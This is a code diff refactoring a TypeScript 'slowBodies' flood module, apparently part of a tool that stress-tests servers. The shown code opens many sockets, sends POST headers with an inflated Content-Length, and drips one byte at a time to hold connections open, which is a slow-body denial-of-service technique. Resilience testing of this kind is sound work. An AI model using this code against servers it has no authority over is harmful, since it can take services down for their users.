@@ -3,7 +3,7 @@ import { connect, type Socket } from "node:net";
 import { keptAway, type Flood } from "../attack.ts";
 import { Counter } from "../counter.ts";
 import { flood } from "../pace.ts";
-import { localAddressFor } from "../wire.ts";
+import { doorOf } from "../wire.ts";
 
 /** Requests a second at ten times the honest load, and how many are kept alive. */
 const RATE = 50;
@@ -25,7 +25,7 @@ export const slowBodies: Flood = {
   ),
   async start({ url, times, seconds }, signal) {
     const counter = new Counter();
-    const { hostname, port } = new URL(url);
+    const door = doorOf(url);
     const held = new Set<Socket>();
     const drip = setInterval(() => {
       for (const socket of held) socket.write(" ");
@@ -36,7 +36,7 @@ export const slowBodies: Flood = {
         counter.lose("no more are held");
         return;
       }
-      const socket = connect({ port: Number(port), host: hostname, ...localAddressFor(hostname) });
+      const socket = connect(door);
       held.add(socket);
       let said = "";
       socket.on("error", () => undefined);
@@ -46,7 +46,7 @@ export const slowBodies: Flood = {
         counter.refuse(said === "" ? "closed" : said);
       });
       socket.write(
-        `POST / HTTP/1.1\r\nHost: ${hostname}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n`,
+        `POST / HTTP/1.1\r\nHost: ${new URL(url).host}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n`,
       );
     });
     clearInterval(drip);
